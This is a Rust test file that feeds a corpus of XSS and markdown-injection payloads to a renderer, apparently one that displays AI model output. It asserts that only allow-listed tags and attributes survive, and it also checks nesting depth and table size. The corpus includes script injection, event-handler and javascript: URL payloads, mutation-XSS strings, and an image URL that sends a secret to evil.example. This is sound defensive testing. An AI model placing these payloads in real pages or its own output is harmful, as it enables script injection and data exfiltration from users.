//! What a hostile model may try: nothing of it reaches the page as markup.

use proptest::prelude::*;
use render::{Incremental, markdown, plain};

const ELEMENTS: &str = "a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr li \
    ol p pre span strong sub sup table tbody td th thead tr ul math merror mfrac mi mn mo mover \
    mpadded mphantom mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder \
    munderover mmultiscripts";

const ATTRIBUTES: &str = "href rel target class type data-copy data-open data-language tabindex \
    role aria-label start scope display stretchy mathvariant width height depth displaystyle \
    scriptlevel largeop movablelimits symmetric minsize maxsize linethickness accent accentunder \
    columnspan form lspace rspace";

const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <img src=x onerror=alert(1)> text",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import url(//evil.example)</style>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)><audio autoplay>",
    "<form action=https://evil.example><input name=attributes><button formaction=x>",
    "<div id=chat name=body class=copy data-copy style=position:fixed>clobber</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template><slot name=x></slot>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1)) [x](<java\nscript:alert(1)>) [x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd) [x](blob:x)",
    "[x](//evil.example) [x](\\\\evil.example) [x](https:evil.example) [x](https://u@evil.example)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x](https://a.example/\"onmouseover=alert(1)) [x](https://a.example '\"><script>')",
    "![x](https://evil.example/pixel.gif?secret) ![\"><script>alert(1)</script>](https://e.example)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "https://a.example/<script>alert(1)</script> https://a.example/\"onclick=\"alert(1)",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</code></pre></figure><img src=x onerror=alert(1)>\n```",
    "~~~ rust\" onclick=\"alert(1)\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$$\\href{javascript:alert(1)}{x} \\url{x} \\class{x}{y} \\style{color:red}{z} \\includegraphics{x}$$",
    "$<img src=x onerror=alert(1)>$ \\(\\unicode{<script>}\\)",
    "$\\color{red;background:url(//evil.example)}{x}$ $\\textcolor{red}{y}$",
    "| <script>alert(1)</script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | `|` |",
    "> [!NOTE]<script>alert(1)</script>\n> <b onclick=x>y</b>",
    "[^\"><script>alert(1)</script>]: <script>alert(1)</script>\n\n[^<img>]",
    "[a]: javascript:alert(1)\n\n[a]",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "\u{202e}txt.exe <scr\u{0}ipt> \u{ff1c}script\u{ff1e} \u{2028}<script\u{2029}>",
    "&lt;script&gt; &#60;script&#62; &#x3c;script&#x3e; \\<script>",
    "<!-- --><script>alert(1)</script><!-- <![CDATA[<script>]]> <?php echo 1 ?> <!DOCTYPE html>",
    "<<script>script>alert(1)<</script>/script> <script<script>> <a<b<c",
    "<xmp><plaintext><textarea><title><select><option>",
];

/// Fails unless every tag and attribute in `html` is one of ours, by a reading of its own.
fn check(html: &str) {
    for tag in html.split('<').skip(1) {
        assert!(tag.contains('>'), "unclosed tag in {html}");
        let (tag, _) = tag.split_once('>').unwrap_or_default();
        let mut rest = tag.trim_start_matches('/');
        let name = &rest[..rest.find(' ').unwrap_or(rest.len())];
        let is_token = name.strip_prefix("a-").is_some_and(|token| {
            "at c co da dd f k n pr s t tg tt v".split(' ').any(|known| known == token)
        });
        assert!(
            is_token || ELEMENTS.split_whitespace().any(|known| known == name),
            "<{name}> in {html}"
        );
        rest = rest[name.len()..].trim_start();
        while !rest.is_empty() {
            assert!(rest.matches('"').count() >= 2, "{rest} in {html}");
            let (attribute, after) = rest.split_once("=\"").unwrap_or_default();
            let (value, after) = after.split_once('"').unwrap_or_default();
            assert!(
                ATTRIBUTES.split_whitespace().any(|known| known == attribute),
                "{attribute} in {html}"
            );
            if attribute == "href" {
                let allowed = ["https://", "http://", "mailto:"]
                    .iter()
                    .any(|scheme| value.starts_with(scheme));
                assert!(allowed, "{value} in {html}");
            }
            rest = after.trim_start();
        }
    }
}

fn check_streamed(text: &str) {
    let mut renderer = Incremental::new();
    for character in text.chars() {
        renderer.push(character.encode_utf8(&mut [0; 4]));
        renderer.blocks().for_each(check);
    }
}

#[test]
fn nothing_hostile_becomes_markup() {
    for text in CORPUS {
        for context in
            ["", "- ", "> ", "a\n", "1. x\n\n   ", "*", "# ", "[", "$", "`", "| a |\n|-|\n|"]
        {
            let text = format!("{context}{text}");
            markdown(&text).iter().for_each(|block| check(&block.html));
            check_streamed(&text);
        }
        check(&plain(text));
    }
}

#[test]
fn images_name_their_host_and_load_nothing() {
    let html = &markdown("![cat](https://img.example/c.png)")[0].html;
    assert!(
        html.contains("class=\"remote-image\"") && html.contains("cat (img.example)"),
        "{html}"
    );
}

#[test]
fn nesting_is_flattened() {
    for text in [
        ">".repeat(5_000) + "x",
        "- ".repeat(5_000) + "x",
        "*a ".repeat(5_000),
        "[".repeat(5_000),
        "**a __b ".repeat(2_000),
        "> - ".repeat(2_000) + "x",
        "![".repeat(2_000) + &"](x)".repeat(2_000),
    ] {
        for block in markdown(&text) {
            check(&block.html);
            let mut depth = 0_usize;
            for tag in block
                .html
                .split('<')
                .skip(1)
                .filter(|tag| !tag.starts_with("br") && !tag.starts_with("hr"))
            {
                depth = if tag.starts_with('/') { depth - 1 } else { depth + 1 };
                assert!(depth < 60, "too deep");
            }
        }
    }
}

#[test]
fn tables_cannot_multiply() {
    let text =
        format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|b\n".repeat(5_000));
    let size: usize = markdown(&text).iter().map(|block| block.html.len()).sum();
    assert!(size < 100 * text.len(), "{size} bytes from {}", text.len());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_mixture_becomes_markup(pieces in prop::collection::vec(prop::sample::select(CORPUS), 1..5), noise in "[<>\"'`$*\\[\\]()!|&;: \na-z/=-]{0,40}", at in 0..200_usize) {
        let mut text = pieces.join("\n");
        text.insert_str(text.floor_char_boundary(at), &noise);
        markdown(&text).iter().for_each(|block| check(&block.html));
    }
}
